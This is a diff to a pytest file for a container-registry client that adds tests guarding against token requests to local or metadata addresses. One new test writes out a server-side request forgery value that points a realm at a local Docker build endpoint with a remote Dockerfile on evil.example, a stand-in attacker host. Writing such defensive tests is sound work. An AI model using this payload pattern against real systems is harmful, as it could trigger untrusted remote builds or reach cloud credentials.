@@ -204,12 +204,22 @@ async def test_credentials_go_to_no_token_server_that_others_can_listen_to(realm
     assert len(registry.asked) == 1
 
 
-@pytest.mark.parametrize("realm", ["http://127.0.0.1:5001/token", "http://auth.lan:5001/token"])
-async def test_a_token_server_that_was_allowed_may_be_plain(realm):
+@pytest.mark.parametrize(
+    ("url", "realm"), [("http://localhost:5000", "http://127.0.0.1:5001/token"), (BASE, "http://auth.lan:5001/token")]
+)
+async def test_a_token_server_that_was_allowed_may_be_plain(url, realm):
     registry = Guarded(realm)
     tokens = Tokens(NoNetwork(registry), Registries(insecure=frozenset({"auth.lan:5001"})))
-    await Session(tokens, Endpoint(BASE), "lib/app", credentials=ANN).manifest("1")
+    await Session(tokens, Endpoint(url), "lib/app", credentials=ANN).manifest("1")
     assert registry.given == 1
+
+
+@pytest.mark.parametrize("host", ["127.0.0.1:4243", "localhost:4243", "[::1]", "127.1", "169.254.169.254"])
+async def test_a_registry_elsewhere_gets_no_request_to_this_machine_for_a_token(host):
+    registry = Guarded(f"http://{host}/build?remote=http://evil.example/Dockerfile#")
+    with pytest.raises(TriokerError, match="the registry asks for a token from this machine"):
+        await session(registry, credentials=Credentials(token="t0ken")).manifest("1")
+    assert registry.given == 0
 
 
 @pytest.mark.parametrize(
